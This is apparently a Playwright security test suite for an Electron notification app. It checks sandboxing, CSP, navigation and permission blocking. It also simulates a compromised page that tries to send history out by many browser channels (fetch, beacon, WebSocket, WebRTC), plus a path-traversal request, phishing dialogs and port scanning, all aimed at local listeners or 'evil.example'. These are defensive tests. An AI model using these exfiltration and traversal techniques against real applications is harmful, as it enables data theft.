import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readdirSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import type { Page } from 'playwright'
import { openBridge } from '../e2e/bridge.ts'
import { expect, test } from '../e2e/fixtures.ts'
import { answerDialog, connectQuestion, windowsTitled } from '../e2e/native-dialog.ts'

/** Counts what reaches this computer by UDP, and by TCP with anything in it, from the first byte on. */
async function startListeners() {
  const udp = createSocket('udp4')
  const seen: string[] = []
  udp.on('message', () => seen.push('a UDP packet'))
  udp.bind(0, '127.0.0.1')
  await once(udp, 'listening')
  const tcp = createServer((socket) => {
    seen.push('a TCP connection')
    socket.on('error', () => {})
    socket.on('data', (data) => {
      seen.push(data.toString('latin1').split('\r\n', 1)[0] ?? '')
      socket.end('HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 1\r\n\r\nx')
    })
  })
  tcp.listen(0, '127.0.0.1')
  await once(tcp, 'listening')
  const { port } = tcp.address() as AddressInfo
  return {
    ports: { udp: udp.address().port, tcp: port },
    seen,
    stop: () => {
      udp.close()
      tcp.close()
    },
  }
}

/** Turns the content security policy off, as in a renderer whose own checks an attacker has overcome. */
async function withoutPolicy(page: Page) {
  const protocol = await page.context().newCDPSession(page)
  await protocol.send('Page.enable')
  await protocol.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.getByText('Connected', { exact: true }).waitFor()
}

test('the page is sandboxed, isolated, and can reach nothing but the bridge', async ({ fixtures }) => {
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const page = await tidings.page()
  await page.getByText('Connected', { exact: true }).waitFor()
  expect(page.url()).toBe('app://tidings/index.html')
  const seen = await page.evaluate(() => ({
    node: ['require', 'process', 'module', 'Buffer'].filter((name) => name in globalThis),
    bridge: Object.keys(Reflect.get(globalThis, 'tidings')).sort(),
  }))
  expect(seen).toEqual({ node: [], bridge: ['history', 'send', 'texts', 'watch'] })
  const preferences = await tidings.app.evaluate(({ webContents }) =>
    webContents
      .getAllWebContents()
      .map((contents) => Reflect.get(contents, 'getLastWebPreferences').call(contents)),
  )
  expect(preferences).toEqual([
    expect.objectContaining({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
    }),
  ])
})

test('the content security policy forbids inline scripts and everything from elsewhere', async ({
  fixtures,
}) => {
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const page = await tidings.page()
  await page.getByText('Connected', { exact: true }).waitFor()
  const policy = await page.evaluate(async () =>
    (await fetch(location.href)).headers.get('content-security-policy'),
  )
  expect(policy).toContain("default-src 'none'")
  expect(policy).not.toMatch(/unsafe|\*/)
  const outcome = await page.evaluate(async (address) => {
    const script = document.createElement('script')
    script.textContent = 'globalThis.injected = true'
    document.head.append(script)
    const reached = await fetch(address).then(
      () => true,
      () => false,
    )
    return { injected: 'injected' in globalThis, reached }
  }, backend.url)
  expect(outcome).toEqual({ injected: false, reached: false })
})

test('the window goes nowhere, opens nothing, and is granted nothing', async ({ fixtures }) => {
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const page = await tidings.page()
  await page.getByText('Connected', { exact: true }).waitFor()
  expect(await page.evaluate((address) => window.open(address), backend.url)).toBeNull()
  expect(await page.evaluate(() => Notification.requestPermission())).toBe('denied')
  await page.evaluate((address) => {
    location.href = address
  }, backend.url)
  // Long enough for a navigation that is allowed: the main process has answered a question since.
  await page.evaluate(() =>
    Reflect.get(globalThis, 'tidings').history({ before: null, limit: 1, unreadOnly: false }),
  )
  expect(await page.evaluate(() => location.href)).toBe('app://tidings/index.html')
  expect(tidings.app.windows()).toHaveLength(1)
})

test('a malformed message and a file outside the app are refused', async ({ fixtures }) => {
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const page = await tidings.page()
  await page.getByText('Connected', { exact: true }).waitFor()
  const answers = await page.evaluate(async () => {
    const bridge = Reflect.get(globalThis, 'tidings')
    bridge.send({ type: 'open-item', key: 1, url: 'https://evil.example' })
    bridge.send('nonsense')
    const query = await bridge.history({ limit: 1e9 }).then(
      () => 'answered',
      () => 'refused',
    )
    const outside = await fetch('app://tidings/%2e%2e/%2e%2e/package.json').then(
      (response) => response.status,
    )
    const half = await fetch('app://tidings/%').then((response) => response.status)
    return { query, outside, half }
  })
  expect(answers).toEqual({ query: 'refused', outside: 404, half: 404 })
  await page.getByText('Connected', { exact: true }).waitFor()
})

test('the token reaches its server and no log', async ({ fixtures }) => {
  const { readFileSync, readdirSync } = await import('node:fs')
  const { join } = await import('node:path')
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  await (await tidings.page()).getByText('Connected', { exact: true }).waitFor()
  await backend.publish({ type: 'notification', id: 'n-1', message: 'Confidential numbers' })
  await (await tidings.page()).getByRole('row', { name: 'Confidential numbers' }).waitFor()
  await tidings.quit()
  const logs = join(fixtures.place.userDataDir, 'logs')
  const written = readdirSync(logs).map((file) => readFileSync(join(logs, file), 'utf8'))
  expect(written.join('')).toContain('open')
  expect(written.join('')).not.toMatch(new RegExp(`${fixtures.token}|Confidential`))
})

test('a page in the hands of an attacker sends nothing to anybody, by any way that a page has', async ({
  fixtures,
}) => {
  const backend = await fixtures.startBackend()
  const listeners = await startListeners()
  try {
    const tidings = await fixtures.launch('--server', backend.streamUrl)
    const page = await tidings.page()
    await page.getByText('Connected', { exact: true }).waitFor()
    await withoutPolicy(page)
    const outcomes = await page.evaluate(attackNetwork, listeners.ports)
    expect(outcomes).toEqual({
      fetch: 'failed',
      request: 'failed',
      socket: 'failed',
      eventSource: 'failed',
      image: 'failed',
      transport: 'failed',
      peer: 'complete, 0 candidates',
    })
    // What is asked for by a hint or a frame has no outcome: the main process has answered several questions since.
    expect(listeners.seen).toEqual([])
    expect(page.frames().map((frame) => frame.url())).not.toContain(
      `http://127.0.0.1:${listeners.ports.tcp}/frame`,
    )
  } finally {
    listeners.stop()
  }
})

/** Runs in the page. */
async function attackNetwork({ udp, tcp }: { readonly udp: number; readonly tcp: number }) {
  const at = `http://127.0.0.1:${tcp}`
  const outcomeOf = (action: () => Promise<unknown>) =>
    action().then(
      () => 'reached',
      () => 'failed',
    )
  const opened = (target: EventTarget, success: string) =>
    new Promise((resolve, reject) => {
      target.addEventListener(success, resolve)
      target.addEventListener('error', reject)
    })
  for (const rel of [
    'preconnect',
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'icon',
    'stylesheet',
  ]) {
    const link = Object.assign(document.createElement('link'), { rel, href: `${at}/${rel}`, as: 'image' })
    document.head.append(link)
  }
  document.body.append(Object.assign(document.createElement('iframe'), { src: `${at}/frame` }))
  document.body.append(Object.assign(document.createElement('object'), { data: `${at}/object` }))
  const video = Object.assign(document.createElement('video'), { src: `${at}/video` })
  const form = Object.assign(document.createElement('form'), { action: `${at}/form`, method: 'post' })
  document.body.append(video, form)
  form.submit()
  navigator.sendBeacon(`${at}/beacon`, 'history')

  const request = () => {
    const sent = new XMLHttpRequest()
    sent.open('POST', `${at}/request`)
    sent.send('history')
    return opened(sent, 'load')
  }
  const image = new Image()
  image.src = `${at}/image`
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: `stun:127.0.0.1:${udp}` },
      { urls: `turn:127.0.0.1:${udp}`, username: 'a', credential: 'b' },
      { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'a', credential: 'b' },
      { urls: `turns:127.0.0.1:${tcp}?transport=tcp`, username: 'a', credential: 'b' },
    ],
  })
  let candidates = 0
  peer.createDataChannel('data')
  const gathered = new Promise<void>((resolve) => {
    peer.onicecandidate = ({ candidate }) => {
      if (candidate !== null && candidate.candidate !== '') candidates += 1
      else if (peer.iceGatheringState === 'complete') resolve()
    }
  })
  await peer.setLocalDescription(await peer.createOffer())
  await gathered
  return {
    fetch: await outcomeOf(() => fetch(`${at}/fetch`, { mode: 'no-cors' })),
    request: await outcomeOf(request),
    socket: await outcomeOf(() => opened(new WebSocket(`ws://127.0.0.1:${tcp}/socket`), 'open')),
    eventSource: await outcomeOf(() => opened(new EventSource(`${at}/events`), 'open')),
    image: await outcomeOf(() => image.decode()),
    transport: await outcomeOf(() => new WebTransport(`https://127.0.0.1:${udp}/`).ready),
    peer: `${peer.iceGatheringState}, ${candidates} candidates`,
  }
}

test('a page opens no dialog, names no window, saves no file and can’t stay open', async ({ fixtures }) => {
  const { desktop } = fixtures
  const home = desktop.env.HOME ?? ''
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const page = await tidings.page()
  await page.getByText('Connected', { exact: true }).waitFor()
  const before = readdirSync(home, { recursive: true }).filter((name) => String(name).includes('stolen'))
  const outcomes = await page.evaluate(() => {
    const save = (href: string) => {
      const link = Object.assign(document.createElement('a'), { href, download: 'stolen.txt' })
      document.body.append(link)
      link.click()
    }
    save('data:text/plain,x')
    save(URL.createObjectURL(new Blob(['x'])))
    document.title = 'System update'
    window.addEventListener('beforeunload', (event) => event.preventDefault())
    window.print()
    window.alert('Enter your password')
    return {
      confirm: window.confirm('Delete everything?'),
      storage: 'getDirectory' in navigator.storage,
      floating: document.pictureInPictureEnabled || 'documentPictureInPicture' in globalThis,
      pickers: ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker'].filter(
        (name) => name in globalThis,
      ),
    }
  })
  expect(outcomes).toEqual({ confirm: false, storage: false, floating: false, pickers: [] })
  expect(await windowsTitled(desktop, 'Print')).toEqual([])
  expect(await windowsTitled(desktop, 'System update')).toEqual([])
  await tidings.app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map((window) => window.close()),
  )
  await expect.poll(tidings.renderers).toBe(0)
  expect(readdirSync(home, { recursive: true }).filter((name) => String(name).includes('stolen'))).toEqual(
    before,
  )
})

test('a page is granted no permission and no device', async ({ fixtures }) => {
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const page = await tidings.page()
  await page.getByText('Connected', { exact: true }).waitFor()
  const granted = await page.evaluate(async () => {
    const refused = (action: () => Promise<unknown>) =>
      action().then(
        () => 'granted',
        () => 'refused',
      )
    const device = (name: string, method: string, options: object) => async () => {
      const found = await Reflect.get(navigator, name)[method](options)
      if (Array.isArray(found) && found.length === 0) throw new Error('none')
      return found
    }
    return {
      microphone: await refused(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      screen: await refused(() => navigator.mediaDevices.getDisplayMedia()),
      position: await refused(
        () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
      ),
      fullscreen: await refused(() => document.documentElement.requestFullscreen()),
      clipboard: await refused(() => navigator.clipboard.readText()),
      usb: await refused(device('usb', 'requestDevice', { filters: [] })),
      hid: await refused(device('hid', 'requestDevice', { filters: [] })),
      serial: await refused(device('serial', 'requestPort', {})),
      fonts: await refused(async () => {
        const fonts = await Reflect.get(globalThis, 'queryLocalFonts')()
        if (fonts.length === 0) throw new Error('none')
      }),
    }
  })
  expect(Object.entries(granted).filter(([, outcome]) => outcome !== 'refused')).toEqual([])
})

test('the window makes the app contact nobody whom the user has not agreed to', async ({ fixtures }) => {
  const { desktop, token } = fixtures
  const backend = await fixtures.startBackend()
  const listeners = await startListeners()
  try {
    const tidings = await fixtures.launch('--server', backend.streamUrl)
    const bridge = await openBridge(await tidings.page())
    const { udp, tcp } = listeners.ports
    // As a scanner of ports, and to carry the history away in an address or a token.
    for (const port of [udp, tcp, 22, 80]) {
      await bridge.send({
        type: 'check-server',
        address: `http://127.0.0.1:${port}/?stolen=history`,
        token: 'stolen',
      })
    }
    const address = `http://127.0.0.1:${tcp}/last`
    await bridge.send({ type: 'check-server', address, token })
    const { check } = await bridge.until('the answer', ({ check }) => check?.address === address)
    expect(check?.result).toEqual({ kind: 'unconfirmed' })
    for (let attempt = 0; attempt < 20; attempt += 1)
      await bridge.send({ type: 'connect', address, token, replaces: null })
    await answerDialog(desktop, connectQuestion, 'Return')
    await bridge.send({ type: 'check-server', address: `${address}?again`, token })
    await bridge.until('the answer', ({ check }) => check?.address === `${address}?again`)
    expect(await windowsTitled(desktop, connectQuestion)).toEqual([])
    expect((await bridge.snapshot()).servers).toMatchObject([{ address: backend.streamUrl }])
    expect(listeners.seen).toEqual([])
  } finally {
    listeners.stop()
  }
})

test('diagnostics say whether the system confines the window, and say it of this very process', async ({
  fixtures,
}) => {
  const backend = await fixtures.startBackend()
  const tidings = await fixtures.launch('--server', backend.streamUrl)
  const bridge = await openBridge(await tidings.page())
  await bridge.send({ type: 'show-diagnostics', open: true, server: null })
  const { diagnostics } = await bridge.until('diagnostics', (snapshot) => snapshot.diagnostics !== null)
  // Whoever runs these tests as root has to switch the sandbox off.
  const isOff = await tidings.app.evaluate(({ app }) => app.commandLine.hasSwitch('no-sandbox'))
  expect(diagnostics?.sandbox).toBe(isOff ? 'off' : 'on')
})
